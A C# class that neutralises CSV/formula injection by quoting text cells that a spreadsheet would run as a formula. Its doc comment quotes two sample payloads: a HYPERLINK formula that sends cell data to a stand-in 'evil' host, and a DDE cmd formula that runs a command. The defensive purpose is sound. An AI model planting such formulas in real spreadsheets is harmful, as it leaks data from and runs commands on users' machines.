namespace Passerelle.Core.OpenData;

/// <summary>
/// Neutralises text that a spreadsheet would run as a formula ("CSV injection", also called formula injection).
/// </summary>
/// <remarks>
/// Project titles, partner names and summaries come from third-party sources and from users; a cell such as
/// <c>=HYPERLINK("http://evil/?"&amp;A1,"Click")</c> or <c>=cmd|' /C calc'!A0</c> would be evaluated by Excel or
/// LibreOffice when a visitor opens the download. Following the OWASP "CSV Injection" guidance
/// (https://owasp.org/www-community/attacks/CSV_Injection), a text cell whose first character is
/// <c>=</c>, <c>+</c>, <c>-</c>, <c>@</c>, tab (0x09) or carriage return (0x0D) is prefixed with a single quote, which
/// spreadsheets display as text. Only text is touched: numeric cells (int, decimal, double...) are written as numbers
/// and never altered, so a negative amount stays <c>-5</c>. The same rule is applied to CSV and XLSX text cells (an
/// XLSX inline string is not evaluated by Excel itself, but the file is often re-saved as CSV or pasted elsewhere).
/// </remarks>
public static class FormulaInjectionGuard
{
    /// <summary>Whether text starting this way would be taken as a formula by a spreadsheet.</summary>
    public static bool NeedsNeutralising(ReadOnlySpan<char> text) =>
        !text.IsEmpty && text[0] is '=' or '+' or '-' or '@' or '\t' or '\r';

    /// <summary>The text, prefixed with <c>'</c> when it would be taken as a formula.</summary>
    public static string Neutralise(string text) => NeedsNeutralising(text) ? "'" + text : text;
}
